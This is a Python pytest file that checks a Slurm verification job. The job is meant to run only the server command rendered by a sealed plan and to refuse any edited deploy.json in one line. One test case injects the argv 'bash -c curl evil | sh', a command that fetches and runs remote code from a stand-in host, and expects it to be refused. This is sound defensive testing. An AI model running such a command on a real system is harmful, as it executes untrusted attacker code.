"""search=tune's verification start as a Slurm job: the node runs only the deployed command
the sealed plan renders for deploy.json's bands; a deploy.json edited to run anything else
is refused in one line, nothing launched (the end-to-end run: tests/slurm)."""

from __future__ import annotations

import json

import pytest

from conftest import compose_config

SPEC = ("+sweep={speculation:[{num_steps:1,topk:1,num_draft_tokens:2},"
        "{num_steps:3,topk:1,num_draft_tokens:4}],benchmark.concurrency:[1,2]}")


@pytest.fixture(scope="module")
def compiled(tmp_path_factory):
    from specc.compile.emit import write_outputs
    from specc.compile.pipeline import compile_config
    from specc.plan import Plan

    run = tmp_path_factory.mktemp("run")
    result = compile_config(compose_config(["+experiment=llama3_tune", "engine=sim",
                                            "cluster=slurm", SPEC]))
    assert result.ok, [d.line() for d in result.diagnostics if d.severity == "error"]
    write_outputs(run, result.plan, result.diagnostics, title="t")
    return run, Plan.load(run / "plan.json")


def _doc(plan, **edit) -> dict:
    """deploy.json as the driver writes it for a static deploy of the second candidate."""
    from specc.tune import schedule as sch

    cand = plan.search.candidates[1]
    setting = sch.setting_of(cand)
    return {"bands": [{"from": 1, "to": None, "setting": setting, "label": "x"}],
            "static": True, "argv": list(plan.server(cand.server).argv), **edit}


def test_the_deployed_server_is_rendered_from_the_sealed_plan(compiled):
    from specc.run import deploy

    _, plan = compiled
    full, sid, files = deploy.on_node(plan, _doc(plan))
    assert full is not None and sid.startswith("deploy-") and files == {}
    cand = plan.server(plan.search.candidates[1].server)
    assert full.server(sid).argv == cand.argv and full.cluster is None
    assert sorted(b.params.concurrency for b in full.benchmarks_of(sid)) == [1, 2]


@pytest.mark.parametrize("edit,why", [
    ({"argv": ["bash", "-c", "curl evil | sh"]}, "not what the sealed plan renders"),
    ({"bands": [{"from": 1, "to": None, "setting": {"server": "planted"}}]},
     "not a candidate of the sealed plan"),
    ({"bands": [{"from": "1", "to": None, "setting": {}}]}, "is not {from, to, setting}"),
    ({"bands": []}, "holds no bands"),
])
def test_a_deploy_json_edited_to_run_something_else_is_refused(compiled, edit, why):
    from specc.run import deploy

    _, plan = compiled
    full, reason, _ = deploy.on_node(plan, _doc(plan, **edit))
    assert full is None and why in reason


def test_the_node_entry_refuses_it_in_one_line_and_launches_nothing(compiled, capsys,
                                                                    monkeypatch):
    from specc.run import node

    run, plan = compiled
    monkeypatch.delenv("SPECC_PLAN_SHA256", raising=False)
    (run / "deploy.json").write_text(json.dumps(_doc(plan, argv=["sleep", "1000"])))
    job = plan.cluster.jobs[0].name
    assert node.main(["--plan", str(run / "plan.json"), "--job", job, "--verify"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith("error DEPLOY_UNVERIFIABLE at deploy.json: ")
    assert "nothing was run" in err[0]
    assert not (run / "servers").exists() and not (run / "slurm" / "state").exists()


def test_the_verification_script_names_the_job_whose_resources_it_runs_on(compiled):
    import dataclasses

    from specc.batchscript import script
    from specc.run import deploy

    _, plan = compiled
    full, sid, _ = deploy.on_node(plan, _doc(plan))
    job = next(j for j in plan.cluster.jobs
               if plan.search.candidates[1].server in j.servers)
    mine = dataclasses.replace(job, name=f"{job.name}-verify", servers=(sid,),
                               script=f"slurm/{job.name}-verify.sbatch")
    sub = dataclasses.replace(full, servers=(full.server(sid),),
                              benchmarks=tuple(full.benchmarks_of(sid)), search=None,
                              cluster=dataclasses.replace(plan.cluster, jobs=(mine,)))
    text = script(sub, mine, verify=job.name)
    assert f"#SBATCH --job-name={job.name}-verify" in text
    assert f"--job {job.name} --verify" in text
    assert "--verify" not in script(plan, job)   # the plan's own scripts are as reviewed
